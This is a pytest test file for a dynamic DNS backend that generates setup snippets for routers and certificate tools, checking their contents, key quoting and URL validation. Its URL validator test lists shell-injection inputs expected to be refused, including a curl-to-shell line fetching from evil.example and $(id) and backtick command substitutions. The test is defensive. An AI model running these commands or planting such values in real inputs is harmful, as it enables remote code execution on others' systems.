from __future__ import annotations

import re
from pathlib import Path

import pytest

from backend.setup_guides import DEVICES, Snippet, is_address, is_harmless, parts, snippet

from .fakes import host

HOST = host("host.example.com")
URL = "https://your-backend.example.com"
DOCS = Path(__file__).parents[2] / "docs"
# `python -m backend setup HOST --for …`, as docs/certificates.md and docs/routers.md list them.
CERTIFICATES = ("lego", "traefik", "caddy", "certbot", "acme.sh", "cert-manager", "proxmox")
DOCUMENTED = (
    *CERTIFICATES,
    *("fritzbox", "speedport", "vodafone", "unifi", "opnsense", "pfsense", "openwrt", "mikrotik"),
    *("synology", "ddclient", "inadyn", "curl", "cron", "powershell", "compose", "client"),
)


def test_every_documented_device_has_a_snippet() -> None:
    assert set(DOCUMENTED) | {"any"} == set(DEVICES)


@pytest.mark.parametrize("device", DEVICES)
def test_a_snippet_has_host_key_and_url_without_placeholders(device: str) -> None:
    guide = snippet(device, HOST, "s3cret-Key_1", URL)
    assert (guide.device, guide.name) == (device, DEVICES[device])
    for part in ("host.example.com", "s3cret-Key_1", "your-backend.example.com"):
        assert part in guide.text
    # Variables of the shell in which certbot runs a hook.
    text = re.sub(r"\$(CERTBOT_[A-Z]+|1)", "", guide.text) if device == "certbot" else guide.text
    assert "$" not in text
    assert guide.text == guide.text.strip("\n")


@pytest.mark.parametrize("device", DEVICES)
def test_a_snippet_uses_the_urls_port_path_and_scheme(device: str) -> None:
    text = snippet(device, HOST, "key", "http://198.51.100.1:8080/dyndns").text
    assert "https:" not in text.replace("https://acme-v02.api.letsencrypt.org", "")
    assert "198.51.100.1:8080" in text
    if device in CERTIFICATES:
        assert "http://198.51.100.1:8080/dyndns/acme" in text
    else:
        assert (
            "/dyndns/nic/update" in text
            or "/dyndns/update" in text
            or device in ("client", "compose")
        )


FORMS = (
    "any",
    "fritzbox",
    "speedport",
    "vodafone",
    "unifi",
    "opnsense",
    "pfsense",
    "synology",
    "proxmox",
)


@pytest.mark.parametrize("device", DEVICES)
def test_a_device_with_a_form_has_fields(device: str) -> None:
    text = snippet(device, HOST, "s3cret-Key_1", URL).text
    found = parts(text)
    assert bool(found) is (device in FORMS)
    if found:
        assert any(one.value.endswith("s3cret-Key_1") for one in found)
        assert any(one.value == HOST.text for one in found)


def test_the_fields_of_a_fritzbox() -> None:
    texts = [one.text for one in parts(snippet("fritzbox", HOST, "key", URL).text) if one.text]
    assert any("change the settings of the host: a silence of 28h" in text for text in texts)
    names = [one.name for one in parts(snippet("fritzbox", HOST, "key", URL).text) if one.name]
    assert names[:5] == ["DynDNS provider", "Update URL", "Domain name", "User name", "Password"]


def test_a_key_with_special_characters_is_quoted_in_urls() -> None:
    text = snippet("vodafone", HOST, "a&b@c:d/%", URL).text
    assert "https://host.example.com:a%26b%40c%3Ad%2F%25@your-backend.example.com/" in text


@pytest.mark.parametrize(
    ("key", "is_safe"), [("aZ09-_", True), ("a&b", False), ("ä", False), ("", False)]
)
def test_keys_that_break_firmware_are_recognised(key: str, *, is_safe: bool) -> None:
    assert is_harmless(key) is is_safe


@pytest.mark.parametrize(
    ("url", "is_valid"),
    [
        (URL, True),
        ("http://198.51.100.1:8080/dyndns", True),
        ("http://[2001:db8::1]:8080", True),
        ("https://dyndns.straße.example/~a_b/", True),
        ("https://x/';curl evil.example|sh;'", False),
        ('https://x/"', False),
        ("https://x/$(id)", False),
        ("https://x/`id`", False),
        ("https://x/\nnext line", False),
        ("https://x\n", False),
        ("https://x?y", False),
        ("https://user:password@x", False),
        ("https://x:port", False),
        ("https://:80", False),
        ("https://", False),
        ("https://[", False),
        ("https://[::1]x", False),
        ("ftp://x", False),
        ("", False),
    ],
)
def test_the_service_url_is_normalised_or_refused(url: str, *, is_valid: bool) -> None:
    assert is_address(url) is is_valid


def sections() -> dict[str, str]:
    """Return the snippet of each device section of the documents."""
    found = re.findall(
        r"^### ([^\n]+) \(`([\w.-]+)`\)\n\n```\n(.*?)\n```$",
        "".join((DOCS / name).read_text() for name in ("routers.md", "certificates.md")),
        re.DOTALL | re.MULTILINE,
    )
    return {device: f"{name}\n{text}" for name, device, text in found}


def all_snippets() -> list[Snippet]:
    return [snippet(device, HOST, "secret", URL) for device in DEVICES]


def test_a_wildcard_asks_for_certificates_of_its_parent() -> None:
    text = snippet("lego", host("*.home.example.com"), "key", URL).text
    assert "--domains 'home.example.com' run" in text
    assert "HTTPREQ_USERNAME='*.home.example.com'" in text


def test_the_documents_show_what_the_command_prints() -> None:
    printed = {one.device: f"{one.name}\n{one.text}" for one in all_snippets()}
    assert sections() == printed
